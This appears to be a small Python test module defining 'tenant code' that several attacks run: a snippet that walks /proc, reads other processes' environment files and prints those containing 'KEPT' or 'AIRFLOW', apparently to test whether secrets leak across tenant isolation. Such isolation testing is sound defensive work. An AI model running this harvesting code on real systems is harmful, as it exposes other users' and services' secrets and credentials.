"""Programs that several attacks run as tenant code."""

ENVIRONMENTS = """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid() or int(pid) == os.getppid():
        continue
    try:
        content = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    if b"KEPT" in content or b"AIRFLOW" in content:
        print(pid, content.decode(errors="replace"))
"""
"""Prints the environments of other processes that it can read and that hold something."""
